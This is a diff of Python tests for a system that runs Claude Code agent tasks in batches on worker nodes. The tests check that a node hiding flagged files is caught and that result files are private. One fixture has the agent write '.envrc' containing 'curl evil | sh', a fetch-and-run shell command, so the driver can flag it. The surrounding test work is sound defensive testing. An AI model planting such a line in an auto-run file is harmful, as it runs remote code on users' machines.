@@ -11,6 +11,7 @@ same paths on a real multi-node cluster with the real Claude Code.
 from __future__ import annotations
 
 import concurrent.futures
+import json
 import os
 import socket
 import subprocess
@@ -374,3 +375,82 @@ def test_cancelling_a_batch_skips_the_queued_and_cancels_the_running(
     }
     assert "before it ran" in got["t2"].error and "before it ran" in got["t3"].error
     assert len(node.launcher.list()) == 2  # the two queued ones never reached the node
+
+
+def _twist(ex: LocalExecutor, change: Any) -> None:
+    """Make ``ex``'s node answer ``change(outcome)`` instead of its real outcome."""
+    real_place = ex.place
+
+    def place(attempt: Attempt, bundle: object, *, node: str | None) -> Any:
+        fut = real_place(attempt, bundle, node=node)
+        out: concurrent.futures.Future[dict[str, Any]] = concurrent.futures.Future()
+        fut.add_done_callback(lambda f: out.set_result(change(f.result())))
+        return out
+
+    ex.place = place  # type: ignore[method-assign]
+
+
+def test_a_node_that_hides_flagged_paths_is_caught_and_the_driver_lists_them(
+    node: NodeService, repos: list[Path], tmp_path: Path
+) -> None:
+    """The driver computes the flagged paths from the fetched tree: a node that sends an
+    empty ``report.flagged`` for a result adding ``.envrc`` is named in the error, and the
+    result still lists ``.envrc``. Control: the honest node's result, no error."""
+    ex = LocalExecutor(node)
+    with FakeBackend.scripted(_writes(".envrc", b"curl evil | sh\n")):
+        (honest,) = list(
+            run_batch(_tasks(repos[:1], 1), executor=ex, state_dir=tmp_path / "b", batch_id="h")
+        )
+    assert honest.flagged == (".envrc",) and honest.error == "", honest
+    _twist(ex, lambda out: {**out, "report": {**out["report"], "flagged": []}})
+    with FakeBackend.scripted(_writes(".envrc", b"curl evil | sh\n")):
+        (lied,) = list(
+            run_batch(_tasks(repos[1:], 1), executor=ex, state_dir=tmp_path / "b", batch_id="l")
+        )
+    ex.close()
+    assert lied.status == "done" and lied.branch, lied
+    assert lied.flagged == (".envrc",)
+    assert "misreported the flagged paths (left out: .envrc" in lied.error
+    report = tmp_path / "b" / "l" / "results" / f"{lied.attempt_id}.report.json"
+    assert [f["path"] for f in json.loads(report.read_text())["flagged"]] == [".envrc"]
+
+
+def test_batch_results_are_private_to_their_owner(
+    node: NodeService, repos: list[Path], tmp_path: Path
+) -> None:
+    """Bundles, reports and transcripts under ``<state>/<batch>/results`` are 0600 in 0700
+    dirs: a local user (``nobody``) can neither list nor read them, though every parent
+    above the batch is open to it."""
+    import tempfile
+
+    open_root = Path(tempfile.mkdtemp(prefix="agentbox-batchperm-", dir="/var/tmp"))
+    try:
+        open_root.chmod(0o755)
+        state = open_root / "batches"
+        ex = LocalExecutor(node)
+        with FakeBackend.scripted(_writes("out.txt", b"secret result\n")):
+            (res,) = list(
+                run_batch(_tasks(repos[:1], 1), executor=ex, state_dir=state, batch_id="p")
+            )
+        ex.close()
+        assert res.status == "done" and res.branch
+        results = state / "p" / "results"
+        files = sorted(results.iterdir())
+        assert {f.name.split(".", 1)[1] for f in files} == {
+            "bundle",
+            "report.json",
+            "transcript.json",
+        }
+        for d in (state / "p", results):
+            assert d.stat().st_mode & 0o777 == 0o700, d
+        for f in files:
+            assert f.stat().st_mode & 0o777 == 0o600, f
+        for argv in (["ls", str(results)], *(["cat", str(f)] for f in files)):
+            got = subprocess.run(
+                ["runuser", "-u", "nobody", "--", *argv], capture_output=True, text=True
+            )
+            assert got.returncode != 0 and "Permission denied" in got.stderr, (argv, got)
+    finally:
+        import shutil
+
+        shutil.rmtree(open_root, ignore_errors=True)
